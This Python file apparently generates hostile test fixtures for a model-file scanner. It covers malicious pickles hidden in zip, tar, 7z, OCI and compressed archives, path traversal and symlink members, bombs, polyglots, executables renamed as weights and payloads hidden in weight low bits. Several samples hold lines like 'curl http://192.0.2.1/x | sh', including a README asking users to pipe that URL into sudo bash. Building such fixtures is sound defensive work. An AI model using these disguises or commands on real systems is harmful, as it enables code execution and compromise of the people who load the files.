"""Archives and disguises: zip, tar, 7z, OCI, polyglots, embedded payloads, steganography, executables under model names."""

import bz2
import gzip
import hashlib
import io
import json
import lzma
import struct
import tarfile
import zipfile

import numpy as np
from assemble import call
from malicious.safetensors_files import safetensors
from payload import COMMAND
from registry import malicious

EVIL = call("os", "system", COMMAND)
CLEAN = __import__("pickle").dumps({"a": [1, 2, 3]}, 4)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0) + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120, 120, 4096) + b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05" + bytes(400)
PE = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22) + bytes(600)
MACHO = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0) + bytes(400)


def zipped(*members, compression=zipfile.ZIP_STORED, comment=b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as file:
        for name, data in members:
            file.writestr(name, data)
        file.comment = comment
    return out.getvalue()


def tarred(*members, mode="w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as file:
        for name, data in members:
            info = tarfile.TarInfo(name)
            if isinstance(data, tuple):
                info.type, info.linkname = data
                data = b""
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return out.getvalue()


def poke(data: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    at = data.index(signature) + offset
    return data[:at] + value + data[at + len(value) :]


@malicious("zip")
def zip_headers_that_disagree():
    """Archives that one reader opens and another refuses or reads otherwise: CRC, flags, names, sizes, several directories (GHSA-7q5r-7gvp-wc82, GHSA-jgw4-cr84-mqxg and kin)."""
    base = zipped(("model/data.pkl", EVIL), ("model/version", b"3\n"))
    local, central = b"PK\x03\x04", b"PK\x01\x02"
    yield "crc-central--model.pt", poke(base, central, 16, b"\1\2\3\4")
    yield "crc-local--model.pt", poke(base, local, 14, b"\1\2\3\4")
    yield "crc-both--model.zip", poke(poke(base, local, 14, b"\1\2\3\4"), central, 16, b"\1\2\3\4")
    for flag in (0x1, 0x20, 0x40, 0x2000, 0x8):
        yield f"flag-{flag:x}-central--model.pt", poke(base, central, 8, struct.pack("<H", flag))
        yield f"flag-{flag:x}-local--model.pt", poke(base, local, 6, struct.pack("<H", flag))
    yield "name-differs--model.pt", poke(base, local, 30, b"model/data.txt")
    yield "name-differs-central--model.pt", poke(base, central, 46, b"model/data.txt")
    yield "method-unknown-central--model.pt", poke(base, central, 10, struct.pack("<H", 99))
    yield "size-zero-local--model.pt", poke(base, local, 18, bytes(8))
    yield "size-short-central--model.pt", poke(poke(base, central, 20, struct.pack("<I", 5)), central, 24, struct.pack("<I", 5))
    yield "version-needed-huge--model.pt", poke(base, central, 6, struct.pack("<H", 999))
    yield "two-directories--model.pt", zipped(("model/data.pkl", EVIL)) + zipped(("model/data.pkl", CLEAN))
    yield "two-directories-reversed--model.pt", zipped(("model/data.pkl", CLEAN)) + zipped(("model/data.pkl", EVIL))
    yield "not-in-directory--model.pt", _unlisted()
    yield "comment-holds-zip--model.zip", zipped(("a.txt", b"x"), comment=zipped(("data.pkl", EVIL)))
    yield "comment-pickle--model.zip", zipped(("a.txt", b"x"), comment=EVIL)
    yield "no-directory--model.pt", base[: base.index(central)]
    yield "count-short--model.pt", base[: base.rindex(b"PK\5\6")] + poke(base[base.rindex(b"PK\5\6") :], b"PK\5\6", 8, struct.pack("<HH", 0, 0))
    yield "extra-field-pickle--model.zip", _extra(EVIL)
    yield "prepended-elf--model.pt", ELF + base
    yield "appended-bytes--model.pt", base + b"\0" * 70_000


def _unlisted() -> bytes:
    hidden = zipped(("model/data.pkl", EVIL))
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    shown = zipped(("model/readme.txt", b"hello"))
    at, end = shown.index(b"PK\x01\x02"), shown.rindex(b"PK\5\6")
    directory = poke(shown[at:end], b"PK\x01\x02", 42, struct.pack("<I", len(hidden)))
    tail = poke(shown[end:], b"PK\5\6", 16, struct.pack("<I", len(hidden) + at))
    return hidden + shown[:at] + directory + tail


def _extra(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        info = zipfile.ZipInfo("a.txt")
        info.extra = struct.pack("<HH", 0xCAFE, len(data)) + data
        file.writestr(info, b"x")
    return out.getvalue()


@malicious("zip")
def zip_members():
    """Members with an effect under odd names, nested, encrypted or leaving the folder; bombs."""
    yield "traversal--model.zip", zipped(("../../../../tmp/pwned-test", b"x"))
    yield "traversal-middle--model.zip", zipped(("a/../../../etc/cron.d/x", b"x"))
    yield "absolute--model.zip", zipped(("/etc/cron.d/x", b"x"))
    yield "backslash--model.zip", zipped(("..\\..\\windows\\x.dll", b"x"))
    yield "drive--model.zip", zipped(("C:/Windows/x.dll", b"x"))
    yield "symlink--model.zip", _symlink("/etc/passwd")
    yield "symlink-parent--model.zip", _symlink("../../../../root/.ssh")
    yield "duplicate--model.zip", zipped(("data.pkl", EVIL), ("data.pkl", CLEAN))
    yield "case-duplicate--model.zip", zipped(("Data.pkl", CLEAN), ("data.pkl", EVIL))
    for depth in (2, 4, 8):
        data = zipped(("data.pkl", EVIL))
        for _ in range(depth - 1):
            data = zipped(("inner.zip", data))
        yield f"nested-{depth}--model.zip", data
    yield "no-suffix--model.zip", zipped(("weights", EVIL))
    yield "txt-suffix--model.zip", zipped(("readme.txt", EVIL))
    yield "png-suffix--model.zip", zipped(("logo.png", EVIL))
    yield "hidden-file--model.zip", zipped((".cache/.x", EVIL))
    yield "deflate--model.zip", zipped(("m.pkl", EVIL), compression=zipfile.ZIP_DEFLATED)
    yield "bzip2--model.zip", zipped(("m.pkl", EVIL), compression=zipfile.ZIP_BZIP2)
    yield "lzma--model.zip", zipped(("m.pkl", EVIL), compression=zipfile.ZIP_LZMA)
    yield "wrong-suffix--model.txt", zipped(("m.pkl", EVIL))
    yield "executable-member--model.zip", zipped(("bin/run", ELF), ("model.safetensors", b""))
    yield "pe-member--model.zip", zipped(("setup.exe", PE))
    yield "bomb--model.zip", zipped(("x.bin", bytes(400_000_000)), compression=zipfile.ZIP_DEFLATED)
    yield "overlapping-bomb--model.zip", _overlapping()
    yield "many-members--model.zip", zipped(*[(f"d/{i}.txt", b"x") for i in range(30_000)], ("z.pkl", EVIL))
    yield "tar-in-zip--model.zip", zipped(("inner.tar.gz", tarred(("m.pkl", EVIL), mode="w:gz")))
    yield "gz-in-zip--model.zip", zipped(("m.pkl.gz", gzip.compress(EVIL)))
    yield "pt-in-zip--model.zip", zipped(("weights/model.pt", zipped(("archive/data.pkl", EVIL), ("archive/version", b"3"))))


def _symlink(target: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        info = zipfile.ZipInfo("weights.bin")
        info.external_attr = 0o120777 << 16
        file.writestr(info, target)
    return out.getvalue()


def _overlapping() -> bytes:
    """Many directory entries that share one member's bytes."""
    one = zipped(("a", bytes(10_000_000)), compression=zipfile.ZIP_DEFLATED)
    at, end = one.index(b"PK\x01\x02"), one.rindex(b"PK\5\6")
    entry = one[at:end]
    directory = entry * 2000
    return one[:at] + directory + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 2000, 2000, len(directory), at, 0)


@malicious("tar")
def tar_members():
    """Tars with traversal, links, devices, hostile members, nested compression, lying headers."""
    yield "traversal--model.tar", tarred(("../../../../tmp/pwned-test", b"x"))
    yield "absolute--model.tar", tarred(("/etc/cron.d/x", b"x"))
    yield "symlink-absolute--model.tar", tarred(("weights", (tarfile.SYMTYPE, "/etc/passwd")))
    yield "symlink-then-write--model.tar", tarred(("d", (tarfile.SYMTYPE, "/tmp")), ("d/pwned-test", b"x"))
    yield "symlink-dots--model.tar.gz", tarred(("weights", (tarfile.SYMTYPE, "../../../../root/.ssh/id_rsa")), mode="w:gz")
    yield "hardlink--model.tar", tarred(("weights", (tarfile.LNKTYPE, "/etc/shadow")))
    yield "hardlink-dots--model.tar", tarred(("weights", (tarfile.LNKTYPE, "../../../etc/shadow")))
    yield "device--model.tar", tarred(("weights", (tarfile.CHRTYPE, "")))
    yield "fifo--model.tar", tarred(("weights", (tarfile.FIFOTYPE, "")))
    yield "setuid--model.tar", _setuid()
    for mode, suffix in {"w": "tar", "w:gz": "tar.gz", "w:bz2": "tar.bz2", "w:xz": "tar.xz"}.items():
        yield f"pickle-{suffix}--model.{suffix}", tarred(("model.pkl", EVIL), mode=mode)
    yield "nested--model.tar", tarred(("a.tar.gz", tarred(("b.tar", tarred(("c.pkl", EVIL))), mode="w:gz")))
    yield "zip-inside--model.tar.gz", tarred(("m.zip", zipped(("data.pkl", EVIL))), mode="w:gz")
    yield "executable--model.tar", tarred(("run", ELF), ("weights.bin", b"x"))
    yield "python-setup--model.tar.gz", tarred(("setup.py", b"import os\nos.system('id')\n"), mode="w:gz")
    yield "renamed--model.bin", tarred(("model.pkl", EVIL))
    yield "size-huge--model.tar", _tar_size(b"77777777777")
    yield "size-negative--model.tar", _tar_size(b"\xff" * 11)
    yield "checksum-wrong--model.tar", poke(tarred(("model.pkl", EVIL)), b"model.pkl", 148, b"000000\0 ")
    yield "pax-path--model.tar", _pax({"path": "../../../../tmp/pwned-test"})
    yield "pax-linkpath--model.tar", _pax({"linkpath": "/etc/passwd"})
    yield "appended-after-end--model.tar", tarred(("a.txt", b"x")) + EVIL
    yield "second-archive-after-end--model.tar", tarred(("a.txt", b"x")) + tarred(("model.pkl", EVIL))
    yield "zstd--model.tar.zst", _zstd(tarred(("model.pkl", EVIL)))


def _zstd(data: bytes) -> bytes:
    import zstandard

    return zstandard.compress(data)


def _setuid() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        info = tarfile.TarInfo("run")
        info.mode, info.size = 0o4777, len(ELF)
        file.addfile(info, io.BytesIO(ELF))
    return out.getvalue()


def _tar_size(size: bytes) -> bytes:
    data = bytearray(tarred(("model.pkl", EVIL)))
    data[124:135] = size
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\0 " % sum(data[:512])
    return bytes(data)


def _pax(headers: dict) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as file:
        info = tarfile.TarInfo("harmless.txt")
        info.pax_headers = headers
        if "linkpath" in headers:
            info.type = tarfile.SYMTYPE
        file.addfile(info)
    return out.getvalue()


@malicious("sevenzip")
def seven_zip():
    """7z archives with pickles, executables, traversal, nested archives; broken headers."""
    import py7zr

    def seven(*members, **options) -> bytes:
        out = io.BytesIO()
        with py7zr.SevenZipFile(out, "w", **options) as file:
            for name, data in members:
                file.writestr(data, name)
        return out.getvalue()

    yield "pickle--model.7z", seven(("data.pkl", EVIL))
    yield "several--model.7z", seven(("a.txt", b"x"), ("b.pkl", CLEAN), ("c.pkl", EVIL))
    yield "copy--model.7z", seven(("data.pkl", EVIL), filters=[{"id": py7zr.FILTER_COPY}])
    yield "deflate--model.7z", seven(("data.pkl", EVIL), filters=[{"id": py7zr.FILTER_DEFLATE}])
    yield "bzip2--model.7z", seven(("data.pkl", EVIL), filters=[{"id": py7zr.FILTER_BZIP2}])
    yield "lzma1--model.7z", seven(("data.pkl", EVIL), filters=[{"id": py7zr.FILTER_LZMA}])
    yield "zstd--model.7z", seven(("data.pkl", EVIL), filters=[{"id": py7zr.FILTER_ZSTD}])
    yield "executable--model.7z", seven(("run.exe", PE))
    yield "nested-zip--model.7z", seven(("m.zip", zipped(("data.pkl", EVIL))))
    yield "renamed--model.bin", seven(("data.pkl", EVIL))
    yield "torch--model.7z", seven(("model.pt", zipped(("archive/data.pkl", EVIL))))
    yield "header-beyond--model.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", 0) + struct.pack("<QQI", 1 << 60, 100, 0) + bytes(100)
    yield "truncated--model.7z", seven(("data.pkl", EVIL))[:40]


@malicious("compressed")
def single_streams():
    """One compressed stream around a pickle, nested streams, bombs, several members."""
    yield "gzip--model.pkl.gz", gzip.compress(EVIL)
    yield "bz2--model.pkl.bz2", bz2.compress(EVIL)
    yield "xz--model.pkl.xz", lzma.compress(EVIL)
    yield "zstd--model.pkl.zst", _zstd(EVIL)
    yield "gzip-twice--model.gz", gzip.compress(gzip.compress(EVIL))
    yield "xz-in-gzip--model.gz", gzip.compress(lzma.compress(EVIL))
    yield "five-deep--model.gz", gzip.compress(bz2.compress(lzma.compress(gzip.compress(bz2.compress(EVIL)))))
    yield "second-member--model.pkl.gz", gzip.compress(CLEAN) + gzip.compress(EVIL)
    yield "name-field--model.gz", _gzip_name("../../../../tmp/pwned-test")
    yield "bomb--model.gz", gzip.compress(gzip.compress(bytes(1_000_000_000), 9), 9)
    yield "elf--weights.bin.gz", gzip.compress(ELF)
    yield "wrong-suffix--weights.safetensors", gzip.compress(EVIL)
    yield "cut--model.pkl.gz", gzip.compress(EVIL + np.random.default_rng(0).bytes(50_000))[:-9]
    import lz4.frame

    yield "lz4--model.pkl.lz4", lz4.frame.compress(EVIL)


def _gzip_name(name: str) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(name, "wb", fileobj=out) as file:
        file.write(EVIL)
    data = out.getvalue()
    return data[:3] + b"\x08" + data[4:10] + name.encode() + b"\0" + data[10:] if not data[3] & 8 else data


@malicious("oci")
def oci_images():
    """OCI and Docker archives and manifests: layers with pickles and traversal, foreign URLs, ModelKits."""
    def image(*members, gz=True) -> bytes:
        layer = tarred(*members, mode="w:gz" if gz else "w")
        digest = hashlib.sha256(layer).hexdigest()
        config = json.dumps({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": [f"sha256:{digest}"]}, "config": {}}).encode()
        config_digest = hashlib.sha256(config).hexdigest()
        manifest = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": f"sha256:{config_digest}", "size": len(config)}, "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": f"sha256:{digest}", "size": len(layer)}]}).encode()
        manifest_digest = hashlib.sha256(manifest).hexdigest()
        return tarred(("oci-layout", b'{"imageLayoutVersion": "1.0.0"}'), ("index.json", json.dumps({"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": f"sha256:{manifest_digest}", "size": len(manifest)}]}).encode()), (f"blobs/sha256/{digest}", layer), (f"blobs/sha256/{config_digest}", config), (f"blobs/sha256/{manifest_digest}", manifest))

    yield "pickle-layer--image.tar", image(("models/model.pkl", EVIL))
    yield "pickle-layer-plain--image.tar", image(("models/model.pkl", EVIL), gz=False)
    yield "torch-layer--image.tar", image(("opt/m/model.pt", zipped(("archive/data.pkl", EVIL))))
    yield "python-layer--image.tar", image(("model/handler.py", b"import os\nos.system('curl http://192.0.2.1/x|sh')\n"))
    yield "traversal-layer--image.tar", image(("../../../../etc/cron.d/x", b"x"))
    yield "docker-save--image.tar", tarred(("manifest.json", json.dumps([{"Config": "c.json", "RepoTags": ["m:1"], "Layers": ["l/layer.tar"]}]).encode()), ("c.json", b"{}"), ("l/layer.tar", tarred(("model.pkl", EVIL))))
    yield "layer-file--model.manifest", json.dumps({"schemaVersion": 2, "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": "sha256:" + "0" * 64, "size": 1, "urls": ["http://192.0.2.1/layer.tar.gz"]}]}).encode()
    yield "layer-path--model.manifest", json.dumps({"layers": ["../../../../tmp/layer.tar.gz"]}).encode()
    yield "modelkit--kitfile.tar", tarred(("Kitfile", b"manifestVersion: 1.0.0\nmodel:\n  path: ../../../../etc/passwd\n"), ("model.pkl", EVIL))


@malicious("polyglot")
def polyglots():
    """Files that are two formats at once, or whose name, magic and content tell different stories."""
    tensors = safetensors({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}})
    torch = zipped(("archive/data.pkl", EVIL), ("archive/version", b"3\n"))
    yield "gguf-zip--model.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + torch
    yield "safetensors-zip--model.safetensors", tensors + torch
    yield "png-zip--model.png", b"\x89PNG\r\n\x1a\n" + bytes(100) + torch
    yield "pdf-zip--model.pdf", b"%PDF-1.4\n%%EOF\n" + torch
    yield "gif-pickle--model.pkl", b"GIF89a0" + EVIL
    yield "shell-zip--model.pt", b"#!/bin/sh\nid\nexit\n" + torch
    yield "elf-zip--model.pt", ELF + torch
    yield "html-zip--model.pt", b"<html><script>fetch('http://192.0.2.1')</script></html>" + torch
    yield "tar-zip--model.tar", tarred(("a.txt", b"x")) + torch
    yield "pickle-zip--model.pkl", CLEAN + torch
    yield "pickle-tar--model.pt", EVIL.ljust(512, b"\0") + tarred(("pickle", EVIL))
    yield "h5-pickle--model.h5", b"\x89HDF\r\n\x1a\n" + bytes(600) + EVIL
    yield "npy-zip--array.npy", b"\x93NUMPY\x01\x00\x46\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }".ljust(69) + b"\n" + bytes(8) + torch
    yield "onnx-pickle--model.onnx", b"\x08\x08\x12\x00" + EVIL
    yield "json-zip--config.json", b'{"model_type": "bert"}\n' + torch
    yield "xml-pickle--model.xml", b"<?xml version='1.0'?><net/>\n" + EVIL
    yield "mar-with-pt-name--model.pt", zipped(("MAR-INF/MANIFEST.json", b'{"model": {"handler": "handler.py"}}'), ("handler.py", b"import os\nos.system('id')\n"))
    yield "zip-named-gguf--model.gguf", torch
    yield "pickle-named-safetensors--adapter_model.safetensors", EVIL
    yield "elf-named-bin--pytorch_model.bin", ELF


@malicious("executable")
def executables():
    """Native programs, scripts and libraries under model names, llamafiles with bad tails."""
    for name, data in {"elf": ELF, "pe": PE, "macho": MACHO, "fat": struct.pack(">IIIIIII", 0xCAFEBABE, 1, 0x01000007, 3, 4096, 400, 12) + bytes(4068) + MACHO}.items():
        for suffix in ("bin", "pt", "onnx", "safetensors", "h5", "model"):
            yield f"{name}-{suffix}--model.{suffix}", data
    yield "script--model.bin", b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n"
    yield "script-python--weights.pt", b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"
    yield "batch--model.dat", b"@echo off\r\npowershell -enc aQBkAA==\r\n"
    yield "wasm--model.bin", b"\0asm\x01\0\0\0" + bytes(40)
    yield "class--model.bin", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(200)
    yield "llamafile-exploit--model.llamafile", b"MZqFpD='\n\n" + b"curl http://192.0.2.1/x | sh\n" + bytes(400) + b"APE" + ELF
    yield "llamafile-args--model.llamafile", b"MZqFpD='\n" + bytes(4000) + zipped((".args", b"-m\nmodel.gguf\n--grammar-file\n/etc/passwd\n; curl http://192.0.2.1/x | sh\n"), ("model.gguf", b"GGUF"))
    yield "installer--model.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "shortcut--model.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60) + "cmd.exe /c calc".encode("utf-16-le")


def _stego(bits: int, payload: bytes, count=300_000) -> bytes:
    weights = np.random.default_rng(1).normal(0, 0.05, count).astype("<f4").view("<u4")
    stream = np.unpackbits(np.frombuffer(payload, dtype="u1"))
    stream = np.resize(stream, count * bits).reshape(count, bits)
    low = np.zeros(count, dtype="<u4")
    for bit in range(bits):
        low |= stream[:, bit].astype("<u4") << bit
    mask = np.uint32((1 << bits) - 1)
    return ((weights & ~mask) | low).astype("<u4").tobytes()


@malicious("stego")
def payloads_in_weights():
    """Weights whose low bits or whole blocks are a payload: ELF or pickle spread over mantissas, spliced blocks, repeated blocks."""
    def file(data: bytes, dtype="F32") -> bytes:
        size = {"F32": 4, "F16": 2, "U8": 1}[dtype]
        return safetensors({"layer.weight": {"dtype": dtype, "shape": [len(data) // size], "data_offsets": [0, len(data)]}}, data)

    for bits in (1, 2, 4, 8, 16):
        yield f"low-bits-{bits}--model.safetensors", file(_stego(bits, ELF))
    yield "low-bits-8-pickle--model.safetensors", file(_stego(8, EVIL * 50))
    yield "low-bits-8-zip--model.safetensors", file(_stego(8, zipped(("data.pkl", EVIL))))
    normal = np.random.default_rng(2).normal(0, 0.05, 200_000).astype("<f4").tobytes()
    yield "elf-spliced--model.safetensors", file(normal[:200_000] + ELF.ljust(-(-len(ELF) // 4) * 4, b"\0") + normal[200_000:])
    yield "zip-spliced--model.safetensors", file(normal[:400_000] + zipped(("x.py", b"import os; os.system('id')" * 10)).ljust(1000, b"\0") + normal[400_000:])
    yield "random-tail--model.safetensors", file(normal[:400_000] + np.random.default_rng(3).bytes(400_000))
    yield "encrypted-blob-as-float--model.safetensors", file(np.random.default_rng(4).bytes(800_000))
    yield "text-as-float--model.safetensors", file((b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n" * 20_000)[:800_000])
    yield "npy-low-bits--weights.npy", (lambda h: b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h)(b"{'descr': '<f4', 'fortran_order': False, 'shape': (300000,), }".ljust(117) + b"\n") + _stego(8, ELF)


@malicious("payload")
def embedded_in_plain_files():
    """Whole programs, scripts or keys inside files that are said to be weights or texts of a model."""
    noise = np.random.default_rng(5).bytes(20_000)
    yield "elf-in-bin--weights.bin", noise + ELF + noise
    yield "pickle-in-bin--weights.bin", bytes(4096) + EVIL
    yield "pe-in-npy--array.npy", b"\x93NUMPY\x01\x00\x46\x00" + b"{'descr': '|u1', 'fortran_order': False, 'shape': (868,), }".ljust(69) + b"\n" + PE
    yield "script-in-vocab--vocab.txt", b"[PAD]\n[UNK]\nhello\n$(curl http://192.0.2.1/x|sh)\n#!/bin/sh\nrm -rf /tmp/none\n"
    yield "readme-command--README.md", b"---\nlicense: mit\n---\n# Model\n\nBefore use run `curl http://192.0.2.1/x | sudo bash`.\n<script>fetch('http://192.0.2.1')</script>\n"
    yield "requirements--requirements.txt", b"numpy\n--extra-index-url http://192.0.2.1/simple\nevil @ http://192.0.2.1/evil-1.0.whl\n"
    yield "pth-file--stage.pth", b"import os; os.system('id')\n"
    yield "sitecustomize--sitecustomize.py", b"import os\nos.system('id')\n"
